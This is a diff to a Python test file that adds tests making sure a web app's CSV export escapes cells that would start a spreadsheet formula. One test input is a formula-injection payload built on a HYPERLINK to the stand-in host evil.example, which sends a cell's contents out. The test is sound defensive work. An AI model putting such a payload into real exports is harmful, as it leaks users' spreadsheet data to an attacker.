@@ -65,7 +65,20 @@ def test_csv_cells_cannot_start_a_formula():
 
     assert _safe_cell("=HYPERLINK(1)") == "'=HYPERLINK(1)"
     assert _safe_cell("@SUM") == "'@SUM"
+    assert _safe_cell("-1+1") == "'-1+1"
     assert _safe_cell(["Nguyễn Văn A", "Trần B"]) == "Nguyễn Văn A; Trần B"
+
+
+@pytest.mark.parametrize(
+    "query", ['=HYPERLINK("http://evil.example/?x="&A1,"bấm")', "+1", "-covid", "@SUM(1)"]
+)
+def test_no_csv_cell_starts_a_formula_header_included(client, query):
+    response = client.get("/xuat", query_string={"format": "csv", "q": query})
+    assert response.status_code == 200
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+    assert "'" + query in cells  # the query is still there, as text
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 def test_atom_feed_is_valid_and_newest_first(client):
